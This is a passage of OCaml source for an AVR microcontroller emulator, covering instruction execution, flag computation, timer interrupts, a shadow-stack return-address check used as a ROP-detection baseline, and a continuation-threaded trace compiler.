  if addr >= io0 && addr < io0 + 64 then io_read t (addr - io0) else Memory.data_get t.mem addr

let data_write t addr v =
  let io0 = t.dev.Device.io_base in
  if addr >= io0 && addr < io0 + 64 then io_write t (addr - io0) v
  else Memory.data_set t.mem addr v

let push_byte t v =
  let p = sp t in
  data_write t p v;
  set_sp t (p - 1)

let pop_byte t =
  let p = sp t + 1 in
  set_sp t p;
  data_read t p

(* Return addresses: low byte pushed first, so the address sits big-endian
   in memory (MSB at the lower address) — the layout ROP payloads encode. *)
let push_pc t addr =
  push_byte t (addr land 0xFF);
  push_byte t ((addr lsr 8) land 0xFF);
  if t.dev.Device.pc_bytes = 3 then push_byte t ((addr lsr 16) land 0xFF)

let pop_pc t =
  let hi = if t.dev.Device.pc_bytes = 3 then pop_byte t else 0 in
  let mid = pop_byte t in
  let lo = pop_byte t in
  (hi lsl 16) lor (mid lsl 8) lor lo

(* Shadow-stack hooks (§IX runtime-monitoring baseline). *)
let shadow_call t addr =
  match t.shadow with
  | None -> ()
  | Some stack ->
      t.shadow <- Some (addr :: stack);
      t.cycles <- t.cycles + t.shadow_overhead

let shadow_ret t got =
  match t.shadow with
  | None -> ()
  | Some [] -> t.cycles <- t.cycles + t.shadow_overhead (* returning past main: ignore *)
  | Some (expected :: rest) ->
      t.shadow <- Some rest;
      t.cycles <- t.cycles + t.shadow_overhead;
      if expected <> got then
        set_halt t (Rop_detected { expected = expected * 2; got = got * 2 })

(* Flag helpers. *)
let flag_bit = 1

let[@inline] get_flag t f = (sreg t lsr f) land 1 = flag_bit

let set_flag t f v =
  let s = sreg t in
  set_sreg t (if v then s lor (1 lsl f) else s land lnot (1 lsl f))

(* Flag batching: [set_flag] costs a memory-mapped SREG read and write
   per flag, and the ALU instructions set up to six — a dozen byte
   accesses per instruction on the hot path.  These helpers compose the
   freshly computed bits and commit them with a single read-modify-write,
   preserving the net effect of the former per-flag sequences. *)
(* [b2i] relies on [false]/[true] being the immediates 0/1; unlike
   [if cond then 1 else 0] it compiles to straight-line code, so flag
   composition carries no data-dependent branches (these mispredict on
   real workloads and dominated the ALU hot path). *)
let b2i : bool -> int = Obj.magic

let[@inline] fbit f (cond : bool) = b2i cond lsl f

let mask_zns = (1 lsl Flag.z) lor (1 lsl Flag.n) lor (1 lsl Flag.s)
let mask_vzns = mask_zns lor (1 lsl Flag.v)
let mask_cvzns = mask_vzns lor (1 lsl Flag.c)
let mask_cvzn = mask_cvzns land lnot (1 lsl Flag.s)
let mask_hcvzns = mask_cvzns lor (1 lsl Flag.h)

let[@inline] update_flags t ~mask bits = set_sreg t (sreg t land lnot mask lor bits)

(* z/n/s for a 8-bit result given the (new) V flag; S = N xor V. *)
let[@inline] zns_bits r ~v =
  let n = r land 0x80 <> 0 in
  fbit Flag.z (r = 0) lor fbit Flag.n n lor fbit Flag.s (n <> v)

let[@inline] flags_add t d r res =
  let res8 = res land 0xFF in
  let c = (d land r) lor (r land lnot res) lor (lnot res land d) in
  let v = (d land r land lnot res lor (lnot d land lnot r land res)) land 0x80 <> 0 in
  update_flags t ~mask:mask_hcvzns
    (fbit Flag.h (c land 0x08 <> 0)
    lor fbit Flag.c (c land 0x80 <> 0)
    lor fbit Flag.v v lor zns_bits res8 ~v)

let[@inline] flags_sub ?(keep_z = false) t d r res =
  let s0 = sreg t in
  let res8 = res land 0xFF in
  let bw = (lnot d land r) lor (r land res) lor (res land lnot d) in
  let v = (d land lnot r land lnot res lor (lnot d land r land res)) land 0x80 <> 0 in
  let n = res8 land 0x80 <> 0 in
  let zb = b2i (res8 = 0) in
  (* [keep_z] is closure-constant (Cpc/Sbc/Sbci), so this branch is
     perfectly predicted; the Z computation itself stays branchless. *)
  let zb = if keep_z then zb land (s0 lsr Flag.z) land 1 else zb in
  set_sreg t
    (s0 land lnot mask_hcvzns
    lor fbit Flag.h (bw land 0x08 <> 0)
    lor fbit Flag.c (bw land 0x80 <> 0)
    lor fbit Flag.v v lor (zb lsl Flag.z) lor fbit Flag.n n
    lor fbit Flag.s (n <> v))

let[@inline] flags_logic t res = update_flags t ~mask:mask_vzns (zns_bits res ~v:false)

let word_reg t r = reg t r lor (reg t (r + 1) lsl 8)

let set_word_reg t r v =
  set_reg t r (v land 0xFF);
  set_reg t (r + 1) ((v lsr 8) land 0xFF)

let x_reg = 26
let y_reg = 28
let z_reg = 30

let ptr_access t p ~write =
  (* Returns the effective address for the access, applying inc/dec. *)
  ignore write;
  let base, pre_dec, post_inc =
    match p with
    | X -> (x_reg, false, false)
    | X_inc -> (x_reg, false, true)
    | X_dec -> (x_reg, true, false)
    | Y_inc -> (y_reg, false, true)
    | Y_dec -> (y_reg, true, false)
    | Z_inc -> (z_reg, false, true)
    | Z_dec -> (z_reg, true, false)
  in
  let v = word_reg t base in
  let addr = if pre_dec then (v - 1) land 0xFFFF else v in
  if pre_dec then set_word_reg t base addr
  else if post_inc then set_word_reg t base ((v + 1) land 0xFFFF);
  addr

let skip_next t =
  (* Used by cpse/sbic/sbis/sbrc/sbrs: skip over the next instruction
     (1 or 2 words), through the predecode cache — the second decode of
     the skipped word was pure waste, and the skip distance must agree
     with what would execute at that address. *)
  let _, words = fetch t t.pc in
  t.pc <- t.pc + words;
  t.cycles <- t.cycles + words

let branch t cond k =
  if cond then begin
    t.pc <- t.pc + k;
    t.cycles <- t.cycles + 1
  end

(* Take the pending timer-compare interrupt, mirroring AVR hardware:
   finish the current instruction, push the PC, clear SREG.I, vector. *)
let take_timer_interrupt t =
  (* Telemetry for the dispatch: the caller guarantees
     [cycles >= timer_next_fire].  The raw delay since the scheduled
     compare match conflates two very different things — time the
     interrupt sat *masked* behind a cleared I flag (a property of the
     software, e.g. a handler's cli window) and the hardware dispatch
     latency of finishing the in-flight instruction.  Split them: when
     the I flag rose after the compare match ([i_up_cycle]), everything
     up to that rise was software masking; only the remainder is billed
     as dispatch latency. *)
  let total = t.cycles - t.timer_next_fire in
  let masked =
    if t.i_up_cycle > t.timer_next_fire then min total (t.i_up_cycle - t.timer_next_fire)
    else 0
  in
  let latency = total - masked in
  push_pc t t.pc;
  shadow_call t t.pc;
  set_flag t Flag.i false;
  t.pc <- Device.Vector.byte_addr Device.Vector.timer_compare / 2;
  let period = (Memory.data_get t.mem (io_addr t Device.Io.ocr) + 1) * 64 in
  t.timer_next_fire <- t.cycles + period;
  t.interrupts_taken <- t.interrupts_taken + 1;
  t.cycles <- t.cycles + 5;
  match t.tap_irq with None -> () | Some f -> f ~latency ~masked

(* Execute exactly one instruction (or take a pending interrupt).
   Precondition: not halted — the halt check lives in the callers so the
   batched [run] loops pay for it once per iteration condition rather
   than re-matching inside.  The timer comparison is ordered before the
   SREG read so that with the timer disarmed ([max_int], the common
   case) the memory-mapped I flag is never touched on the hot path. *)
let exec_one t =
  if t.cycles >= t.timer_next_fire && get_flag t Flag.i then take_timer_interrupt t
  else if t.pc < 0 || t.pc * 2 >= t.program_bytes then set_halt t (Wild_pc (t.pc * 2))
  else begin
        let pc0 = t.pc in
        (* Inline fetch, split so the cache-hit path allocates nothing
           (building the (insn, words) pair costs a heap block per
           instruction without flambda).  No bounds check: the wild-PC
           guard above bounds pc0 by program_bytes, and a sync'd cache
           spans exactly (program_bytes + 1) / 2 entries. *)
        let insn =
          if t.use_icache then begin
            let words = Array.unsafe_get t.icache_words pc0 in
            if words <> 0 then begin
              t.pc <- pc0 + words;
              Array.unsafe_get t.icache_insn pc0
            end
            else begin
              let insn = fill_entry t pc0 in
              t.pc <- pc0 + Array.unsafe_get t.icache_words pc0;
              insn
            end
          end
          else begin
            let insn, words = decode_raw t pc0 in
            t.pc <- pc0 + words;
            insn
          end
        in
        if t.tap_on then t.tap_insn pc0 insn;
        t.retired <- t.retired + 1;
        t.cyc <- 1;
        (match insn with
        | Nop -> ()
        | Data w ->
            set_halt t (Illegal_instruction { byte_addr = pc0 * 2; word = w });
            t.pc <- pc0
        | Movw (d, r) ->
            set_reg t d (reg t r);
            set_reg t (d + 1) (reg t (r + 1))
        | Ldi (d, k) -> set_reg t d k
        | Mov (d, r) -> set_reg t d (reg t r)
        | Add (d, r) ->
            let a = reg t d and b = reg t r in
            let res = a + b in
            flags_add t a b res;
            set_reg t d res
        | Adc (d, r) ->
            let a = reg t d and b = reg t r in
            let res = a + b + if get_flag t Flag.c then 1 else 0 in
            flags_add t a b res;
            set_reg t d res
        | Sub (d, r) ->
            let a = reg t d and b = reg t r in
            let res = a - b in
            flags_sub t a b res;
            set_reg t d res
        | Sbc (d, r) ->
            let a = reg t d and b = reg t r in
            let res = a - b - if get_flag t Flag.c then 1 else 0 in
            flags_sub ~keep_z:true t a b res;
            set_reg t d res
        | And (d, r) ->
            let res = reg t d land reg t r in
            flags_logic t res;
            set_reg t d res
        | Or (d, r) ->
            let res = reg t d lor reg t r in
            flags_logic t res;
            set_reg t d res
        | Eor (d, r) ->
            let res = reg t d lxor reg t r in
            flags_logic t res;
            set_reg t d res
        | Cp (d, r) -> flags_sub t (reg t d) (reg t r) (reg t d - reg t r)
        | Cpc (d, r) ->
            let c = if get_flag t Flag.c then 1 else 0 in
            flags_sub ~keep_z:true t (reg t d) (reg t r) (reg t d - reg t r - c)
        | Cpse (d, r) -> if reg t d = reg t r then skip_next t
        | Mul (d, r) ->
            let p = reg t d * reg t r in
            set_reg t 0 (p land 0xFF);
            set_reg t 1 ((p lsr 8) land 0xFF);
            update_flags t
              ~mask:((1 lsl Flag.c) lor (1 lsl Flag.z))
              (fbit Flag.c (p land 0x8000 <> 0) lor fbit Flag.z (p land 0xFFFF = 0));
            t.cyc <- 2
        | Subi (d, k) ->
            let a = reg t d in
            let res = a - k in
            flags_sub t a k res;
            set_reg t d res
        | Sbci (d, k) ->
            let a = reg t d in
            let res = a - k - if get_flag t Flag.c then 1 else 0 in
            flags_sub ~keep_z:true t a k res;
            set_reg t d res
        | Andi (d, k) ->
            let res = reg t d land k in
            flags_logic t res;
            set_reg t d res
        | Ori (d, k) ->
            let res = reg t d lor k in
            flags_logic t res;
            set_reg t d res
        | Cpi (d, k) -> flags_sub t (reg t d) k (reg t d - k)
        | Com d ->
            let res = 0xFF - reg t d in
            update_flags t ~mask:mask_cvzns ((1 lsl Flag.c) lor zns_bits res ~v:false);
            set_reg t d res
        | Neg d ->
            let a = reg t d in
            let res = (0x100 - a) land 0xFF in
            let v = res = 0x80 in
            update_flags t ~mask:mask_hcvzns
              (fbit Flag.c (res <> 0) lor fbit Flag.v v
              lor fbit Flag.h ((res lor a) land 0x08 <> 0)
              lor zns_bits res ~v);
            set_reg t d res
        | Inc d ->
            let res = (reg t d + 1) land 0xFF in
            let v = res = 0x80 in
            update_flags t ~mask:mask_vzns (fbit Flag.v v lor zns_bits res ~v);
            set_reg t d res
        | Dec d ->
            let res = (reg t d - 1) land 0xFF in
            let v = res = 0x7F in
            update_flags t ~mask:mask_vzns (fbit Flag.v v lor zns_bits res ~v);
            set_reg t d res
        | Lsr d ->
            let a = reg t d in
            let res = a lsr 1 in
            (* n = 0, v = c, s = n xor v = v. *)
            let c = a land 1 <> 0 in
            update_flags t ~mask:mask_cvzns
              (fbit Flag.c c lor fbit Flag.z (res = 0) lor fbit Flag.v c lor fbit Flag.s c);
            set_reg t d res
        | Ror d ->
            let a = reg t d in
            let res = (a lsr 1) lor (if get_flag t Flag.c then 0x80 else 0) in
            let c = a land 1 <> 0 in
            let n = res land 0x80 <> 0 in
            let v = n <> c in
            update_flags t ~mask:mask_cvzns
              (fbit Flag.c c lor fbit Flag.z (res = 0) lor fbit Flag.n n lor fbit Flag.v v
              lor fbit Flag.s (n <> v));
            set_reg t d res
        | Asr d ->
            let a = reg t d in
            let res = (a lsr 1) lor (a land 0x80) in
            let s0 = sreg t in
            let c = a land 1 <> 0 in
            let n = res land 0x80 <> 0 in
            (* Net effect of the former sequence: S pairs N with the
               pre-update V, then V becomes n xor c. *)
            let v_old = (s0 lsr Flag.v) land 1 = 1 in
            set_sreg t
              (s0 land lnot mask_cvzns
              lor fbit Flag.c c lor fbit Flag.z (res = 0) lor fbit Flag.n n
              lor fbit Flag.v (n <> c) lor fbit Flag.s (n <> v_old));
            set_reg t d res
        | Swap d ->
            let a = reg t d in
            set_reg t d (((a lsl 4) lor (a lsr 4)) land 0xFF)
        | Push r ->
            push_byte t (reg t r);
            t.cyc <- 2
        | Pop r ->
            set_reg t r (pop_byte t);
            t.cyc <- 2
        | Ret ->
            t.pc <- pop_pc t;
            shadow_ret t t.pc;
            t.cyc <- (if t.dev.Device.pc_bytes = 3 then 5 else 4)
        | Reti ->
            t.pc <- pop_pc t;
            shadow_ret t t.pc;
            if not (get_flag t Flag.i) then t.i_up_cycle <- t.cycles;
            set_flag t Flag.i true;
            t.cyc <- (if t.dev.Device.pc_bytes = 3 then 5 else 4)
        | Icall ->
            push_pc t t.pc;
            shadow_call t t.pc;
            t.pc <- word_reg t z_reg;
            t.cyc <- (if t.dev.Device.pc_bytes = 3 then 4 else 3)
        | Ijmp ->
            t.pc <- word_reg t z_reg;
            t.cyc <- 2
        | Call a ->
            push_pc t t.pc;
            shadow_call t t.pc;
            t.pc <- a;
            t.cyc <- (if t.dev.Device.pc_bytes = 3 then 5 else 4)
        | Jmp a ->
            t.pc <- a;
            t.cyc <- 3
        | Rcall k ->
            push_pc t t.pc;
            shadow_call t t.pc;
            t.pc <- t.pc + k;
            t.cyc <- (if t.dev.Device.pc_bytes = 3 then 4 else 3)
        | Rjmp k ->
            t.pc <- t.pc + k;
            t.cyc <- 2
        | Brbs (b, k) -> branch t (get_flag t b) k
        | Brbc (b, k) -> branch t (not (get_flag t b)) k
        | In (d, a) -> set_reg t d (io_read t a)
        | Out (a, r) -> io_write t a (reg t r)
        | Lds (d, a) ->
            set_reg t d (data_read t a);
            t.cyc <- 2
        | Sts (a, r) ->
            data_write t a (reg t r);
            t.cyc <- 2
        | Ldd (d, b, q) ->
            let base = if b = Y then y_reg else z_reg in
            set_reg t d (data_read t (word_reg t base + q));
            t.cyc <- 2
        | Std (b, q, r) ->
            let base = if b = Y then y_reg else z_reg in
            data_write t (word_reg t base + q) (reg t r);
            t.cyc <- 2
        | Ld (d, p) ->
            set_reg t d (data_read t (ptr_access t p ~write:false));
            t.cyc <- 2
        | St (p, r) ->
            data_write t (ptr_access t p ~write:true) (reg t r);
            t.cyc <- 2
        | Adiw (d, k) ->
            let v = word_reg t d in
            let res = (v + k) land 0xFFFF in
            update_flags t ~mask:mask_cvzn
              (fbit Flag.c (v + k > 0xFFFF)
              lor fbit Flag.z (res = 0)
              lor fbit Flag.n (res land 0x8000 <> 0)
              lor fbit Flag.v (res land 0x8000 <> 0 && v land 0x8000 = 0));
            set_word_reg t d res;
            t.cyc <- 2
        | Sbiw (d, k) ->
            let v = word_reg t d in
            let res = (v - k) land 0xFFFF in
            update_flags t ~mask:mask_cvzn
              (fbit Flag.c (v < k)
              lor fbit Flag.z (res = 0)
              lor fbit Flag.n (res land 0x8000 <> 0)
              lor fbit Flag.v (res land 0x8000 = 0 && v land 0x8000 <> 0));
            set_word_reg t d res;
            t.cyc <- 2
        | Lpm0 ->
            set_reg t 0 (Memory.flash_byte t.mem (word_reg t z_reg));
            t.cyc <- 3
        | Lpm (d, inc) ->
            let z = word_reg t z_reg in
            set_reg t d (Memory.flash_byte t.mem z);
            if inc then set_word_reg t z_reg ((z + 1) land 0xFFFF);
            t.cyc <- 3
        | Elpm0 ->
            let rampz = Memory.data_get t.mem (io_addr t 0x3B) in
            set_reg t 0 (Memory.flash_byte t.mem ((rampz lsl 16) lor word_reg t z_reg));
            t.cyc <- 3
        | Elpm (d, inc) ->
            let rampz = Memory.data_get t.mem (io_addr t 0x3B) in
            let z = word_reg t z_reg in
            set_reg t d (Memory.flash_byte t.mem ((rampz lsl 16) lor z));
            if inc then begin
              (* 24-bit post-increment carries into RAMPZ. *)
              let full = ((rampz lsl 16) lor z) + 1 in
              set_word_reg t z_reg (full land 0xFFFF);
              Memory.data_set t.mem (io_addr t 0x3B) ((full lsr 16) land 0xFF)
            end;
            t.cyc <- 3
        | Sbi (a, b) ->
            io_write t a (io_read t a lor (1 lsl b));
            t.cyc <- 2
        | Cbi (a, b) ->
            io_write t a (io_read t a land lnot (1 lsl b));
            t.cyc <- 2
        | Sbic (a, b) -> if io_read t a land (1 lsl b) = 0 then skip_next t
        | Sbis (a, b) -> if io_read t a land (1 lsl b) <> 0 then skip_next t
        | Bld (d, b) ->
            let v = reg t d in
            set_reg t d (if get_flag t Flag.t then v lor (1 lsl b) else v land lnot (1 lsl b))
        | Bst (d, b) -> set_flag t Flag.t (reg t d land (1 lsl b) <> 0)
        | Sbrc (r, b) -> if reg t r land (1 lsl b) = 0 then skip_next t
        | Sbrs (r, b) -> if reg t r land (1 lsl b) <> 0 then skip_next t
        | Bset b ->
            if b = Flag.i && not (get_flag t Flag.i) then t.i_up_cycle <- t.cycles;
            set_flag t b true
        | Bclr b -> set_flag t b false
        | Wdr -> ()
        | Sleep -> set_halt t Sleep_mode
        | Break -> set_halt t Break_hit);
        t.cycles <- t.cycles + t.cyc
      end

let step t =
  match t.halt with
  | Some _ -> ()
  | None ->
      sync_icache t;
      exec_one t

(* ---- Superblock threaded-code engine -------------------------------- *)

let set_superblocks t enabled = t.use_superblocks <- enabled
let superblocks_enabled t = t.use_superblocks

let refresh_blocks t =
  let nwords = (t.program_bytes + 1) / 2 in
  if Array.length t.blocks = nwords then Array.fill t.blocks 0 nwords dummy_block
  else t.blocks <- Array.make nwords dummy_block;
  t.blocks_epoch <- Memory.flash_epoch t.mem

(* Same invalidation argument as [sync_icache]: guest execution cannot
   mutate flash, so the epoch compare happens once per batched entry
   point, and a reflash or SEU page write between slices drops every
   compiled block. *)
let sync_blocks t =
  if t.use_superblocks && t.blocks_epoch <> Memory.flash_epoch t.mem then refresh_blocks t

(* ---- Trace compiler ------------------------------------------------- *)

(* A fusible (non-control) instruction compiles to a *builder*: a
   function that, given the continuation closure for the rest of the
   trace, returns this instruction's closure.  The closure performs the
   instruction's exact [exec_one] semantics and tail-calls the
   continuation — continuation-threaded code, one indirect call per
   instruction, no dispatch loop.

   Cycle accounting is batched: [FPure] closures never touch
   [t.cycles].  Their static costs accumulate in a compile-time
   [pending] counter that is flushed (one add of a captured constant)
   immediately before any operation able to observe the clock.  The
   observers are exactly the I/O paths: [io_read] (UART pacing reads
   [t.cycles]), [io_write] (UART busy window, watchdog feed stamp,
   timer arming), and therefore also every data-space access, whose
   dynamic address may land in the I/O file.  [FLoad] builders take the
   flush amount; [FStore] builders additionally take a stop
   continuation, because [io_write] can set [t.block_stop] (timer
   re-arm, SREG.I set) which must abandon the rest of the fused trace
   after the current instruction. *)
type fuse =
  | FPure of int * ((t -> unit) -> t -> unit) (* cost, builder k *)
  | FLoad of int * (int -> (t -> unit) -> t -> unit) (* cost, builder flush k *)
  | FStore of int * (int -> (t -> unit) -> (t -> unit) -> t -> unit)
      (* cost, builder flush stop k *)

let compile_body (insn : Isa.t) : fuse option =
  match insn with
  | Nop -> Some (FPure (1, fun k t -> k t))
  | Movw (d, r) ->
      Some
        (FPure
           ( 1,
             fun k t ->
               set_reg t d (reg t r);
               set_reg t (d + 1) (reg t (r + 1));
               k t ))
  | Ldi (d, v) -> Some (FPure (1, fun k t -> set_reg t d v; k t))
  | Mov (d, r) -> Some (FPure (1, fun k t -> set_reg t d (reg t r); k t))
  | Add (d, r) ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let a = reg t d and b = reg t r in
               let res = a + b in
               flags_add t a b res;
               set_reg t d res;
               k t ))
  | Adc (d, r) ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let a = reg t d and b = reg t r in
               let res = a + b + if get_flag t Flag.c then 1 else 0 in
               flags_add t a b res;
               set_reg t d res;
               k t ))
  | Sub (d, r) ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let a = reg t d and b = reg t r in
               let res = a - b in
               flags_sub t a b res;
               set_reg t d res;
               k t ))
  | Sbc (d, r) ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let a = reg t d and b = reg t r in
               let res = a - b - if get_flag t Flag.c then 1 else 0 in
               flags_sub ~keep_z:true t a b res;
               set_reg t d res;
               k t ))
  | And (d, r) ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let res = reg t d land reg t r in
               flags_logic t res;
               set_reg t d res;
               k t ))
  | Or (d, r) ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let res = reg t d lor reg t r in
               flags_logic t res;
               set_reg t d res;
               k t ))
  | Eor (d, r) ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let res = reg t d lxor reg t r in
               flags_logic t res;
               set_reg t d res;
               k t ))
  | Cp (d, r) ->
      Some
        (FPure
           ( 1,
             fun k t ->
               flags_sub t (reg t d) (reg t r) (reg t d - reg t r);
               k t ))
  | Cpc (d, r) ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let c = if get_flag t Flag.c then 1 else 0 in
               flags_sub ~keep_z:true t (reg t d) (reg t r) (reg t d - reg t r - c);
               k t ))
  | Mul (d, r) ->
      Some
        (FPure
           ( 2,
             fun k t ->
               let p = reg t d * reg t r in
               set_reg t 0 (p land 0xFF);
               set_reg t 1 ((p lsr 8) land 0xFF);
               update_flags t
                 ~mask:((1 lsl Flag.c) lor (1 lsl Flag.z))
                 (fbit Flag.c (p land 0x8000 <> 0) lor fbit Flag.z (p land 0xFFFF = 0));
               k t ))
  | Subi (d, v) ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let a = reg t d in
               let res = a - v in
               flags_sub t a v res;
               set_reg t d res;
               k t ))
  | Sbci (d, v) ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let a = reg t d in
               let res = a - v - if get_flag t Flag.c then 1 else 0 in
               flags_sub ~keep_z:true t a v res;
               set_reg t d res;
               k t ))
  | Andi (d, v) ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let res = reg t d land v in
               flags_logic t res;
               set_reg t d res;
               k t ))
  | Ori (d, v) ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let res = reg t d lor v in
               flags_logic t res;
               set_reg t d res;
               k t ))
  | Cpi (d, v) ->
      Some (FPure (1, fun k t -> flags_sub t (reg t d) v (reg t d - v); k t))
  | Com d ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let res = 0xFF - reg t d in
               update_flags t ~mask:mask_cvzns ((1 lsl Flag.c) lor zns_bits res ~v:false);
               set_reg t d res;
               k t ))
  | Neg d ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let a = reg t d in
               let res = (0x100 - a) land 0xFF in
               let v = res = 0x80 in
               update_flags t ~mask:mask_hcvzns
                 (fbit Flag.c (res <> 0) lor fbit Flag.v v
                 lor fbit Flag.h ((res lor a) land 0x08 <> 0)
                 lor zns_bits res ~v);
               set_reg t d res;
               k t ))
  | Inc d ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let res = (reg t d + 1) land 0xFF in
               let v = res = 0x80 in
               update_flags t ~mask:mask_vzns (fbit Flag.v v lor zns_bits res ~v);
               set_reg t d res;
               k t ))
  | Dec d ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let res = (reg t d - 1) land 0xFF in
               let v = res = 0x7F in
               update_flags t ~mask:mask_vzns (fbit Flag.v v lor zns_bits res ~v);
               set_reg t d res;
               k t ))
  | Lsr d ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let a = reg t d in
               let res = a lsr 1 in
               let c = a land 1 <> 0 in
               update_flags t ~mask:mask_cvzns
                 (fbit Flag.c c lor fbit Flag.z (res = 0) lor fbit Flag.v c lor fbit Flag.s c);
               set_reg t d res;
               k t ))
  | Ror d ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let a = reg t d in
               let res = (a lsr 1) lor (if get_flag t Flag.c then 0x80 else 0) in
               let c = a land 1 <> 0 in
               let n = res land 0x80 <> 0 in
               let v = n <> c in
               update_flags t ~mask:mask_cvzns
                 (fbit Flag.c c lor fbit Flag.z (res = 0) lor fbit Flag.n n lor fbit Flag.v v
                 lor fbit Flag.s (n <> v));
               set_reg t d res;
               k t ))
  | Asr d ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let a = reg t d in
               let res = (a lsr 1) lor (a land 0x80) in
               let s0 = sreg t in
               let c = a land 1 <> 0 in
               let n = res land 0x80 <> 0 in
               let v_old = (s0 lsr Flag.v) land 1 = 1 in
               set_sreg t
                 (s0 land lnot mask_cvzns
                 lor fbit Flag.c c lor fbit Flag.z (res = 0) lor fbit Flag.n n
                 lor fbit Flag.v (n <> c) lor fbit Flag.s (n <> v_old));
               set_reg t d res;
               k t ))
  | Swap d ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let a = reg t d in
               set_reg t d (((a lsl 4) lor (a lsr 4)) land 0xFF);
               k t ))
  | Adiw (d, v) ->
      Some
        (FPure
           ( 2,
             fun k t ->
               let w = word_reg t d in
               let res = (w + v) land 0xFFFF in
               update_flags t ~mask:mask_cvzn
                 (fbit Flag.c (w + v > 0xFFFF)
                 lor fbit Flag.z (res = 0)
                 lor fbit Flag.n (res land 0x8000 <> 0)
                 lor fbit Flag.v (res land 0x8000 <> 0 && w land 0x8000 = 0));
               set_word_reg t d res;
               k t ))
  | Sbiw (d, v) ->
      Some
        (FPure
           ( 2,
             fun k t ->
               let w = word_reg t d in
               let res = (w - v) land 0xFFFF in
               update_flags t ~mask:mask_cvzn
                 (fbit Flag.c (w < v)
                 lor fbit Flag.z (res = 0)
                 lor fbit Flag.n (res land 0x8000 <> 0)
                 lor fbit Flag.v (res land 0x8000 = 0 && w land 0x8000 <> 0));
               set_word_reg t d res;
               k t ))
  | Lpm0 ->
      Some
        (FPure
           ( 3,
             fun k t ->
               set_reg t 0 (Memory.flash_byte t.mem (word_reg t z_reg));
               k t ))
  | Lpm (d, inc) ->
      Some
        (FPure
           ( 3,
             fun k t ->
               let z = word_reg t z_reg in
               set_reg t d (Memory.flash_byte t.mem z);
               if inc then set_word_reg t z_reg ((z + 1) land 0xFFFF);
               k t ))
  | Elpm0 ->
      Some
        (FPure
           ( 3,
             fun k t ->
               let rampz = Memory.data_get t.mem (io_addr t 0x3B) in
               set_reg t 0 (Memory.flash_byte t.mem ((rampz lsl 16) lor word_reg t z_reg));
               k t ))
  | Elpm (d, inc) ->
      Some
        (FPure
           ( 3,
             fun k t ->
               let rampz = Memory.data_get t.mem (io_addr t 0x3B) in
               let z = word_reg t z_reg in
               set_reg t d (Memory.flash_byte t.mem ((rampz lsl 16) lor z));
               if inc then begin
                 let full = ((rampz lsl 16) lor z) + 1 in
                 set_word_reg t z_reg (full land 0xFFFF);
                 Memory.data_set t.mem (io_addr t 0x3B) ((full lsr 16) land 0xFF)
               end;
               k t ))
  | Bld (d, b) ->
      Some
        (FPure
           ( 1,
             fun k t ->
               let v = reg t d in
               set_reg t d
                 (if get_flag t Flag.t then v lor (1 lsl b) else v land lnot (1 lsl b));
               k t ))
  | Bst (d, b) ->
      Some (FPure (1, fun k t -> set_flag t Flag.t (reg t d land (1 lsl b) <> 0); k t))
  | Bset b when b <> Flag.i -> Some (FPure (1, fun k t -> set_flag t b true; k t))
  | Bclr b ->
      (* cli (b = I) stays fusible: clearing I can only *prevent* a
         dispatch, and the block was entered under a no-fire-within-
         this-block guarantee anyway. *)
      Some (FPure (1, fun k t -> set_flag t b false; k t))
  | Wdr -> Some (FPure (1, fun k t -> k t))
  (* Data-space and I/O accesses: clock observers (and, for writes,
     possible [block_stop] raisers). *)
  | In (d, a) ->
      Some
        (FLoad
           ( 1,
             fun fl k t ->
               t.cycles <- t.cycles + fl;
               set_reg t d (io_read t a);
               k t ))
  | Lds (d, a) ->
      Some
        (FLoad
           ( 2,
             fun fl k t ->
               t.cycles <- t.cycles + fl;
               set_reg t d (data_read t a);
               k t ))
  | Ldd (d, b, q) ->
      let base = if b = Y then y_reg else z_reg in
      Some
        (FLoad
           ( 2,
             fun fl k t ->
               t.cycles <- t.cycles + fl;
               set_reg t d (data_read t (word_reg t base + q));
               k t ))
  | Ld (d, p) ->
      Some
        (FLoad
           ( 2,
             fun fl k t ->
               t.cycles <- t.cycles + fl;
               set_reg t d (data_read t (ptr_access t p ~write:false));
               k t ))
  | Pop r ->
      Some
        (FLoad
           ( 2,
             fun fl k t ->
               t.cycles <- t.cycles + fl;
               set_reg t r (pop_byte t);
               k t ))
  | Out (a, r) ->
      Some
        (FStore
           ( 1,
             fun fl stop k t ->
               t.cycles <- t.cycles + fl;
               io_write t a (reg t r);
               if t.block_stop then stop t else k t ))
  | Sts (a, r) ->
      Some
        (FStore
           ( 2,
             fun fl stop k t ->
               t.cycles <- t.cycles + fl;
               data_write t a (reg t r);
               if t.block_stop then stop t else k t ))
  | Std (b, q, r) ->
      let base = if b = Y then y_reg else z_reg in
      Some
        (FStore
           ( 2,
             fun fl stop k t ->
               t.cycles <- t.cycles + fl;
               data_write t (word_reg t base + q) (reg t r);
               if t.block_stop then stop t else k t ))
  | St (p, r) ->
      Some
        (FStore
           ( 2,
             fun fl stop k t ->
               t.cycles <- t.cycles + fl;
               data_write t (ptr_access t p ~write:true) (reg t r);
               if t.block_stop then stop t else k t ))
  | Push r ->
      Some
        (FStore
           ( 2,
             fun fl stop k t ->
               t.cycles <- t.cycles + fl;
               push_byte t (reg t r);
               if t.block_stop then stop t else k t ))
  | Sbi (a, b) ->
      Some
        (FStore
           ( 2,
             fun fl stop k t ->
               t.cycles <- t.cycles + fl;
               io_write t a (io_read t a lor (1 lsl b));
               if t.block_stop then stop t else k t ))
  | Cbi (a, b) ->
      Some
        (FStore
           ( 2,
             fun fl stop k t ->
               t.cycles <- t.cycles + fl;
               io_write t a (io_read t a land lnot (1 lsl b));
               if t.block_stop then stop t else k t ))
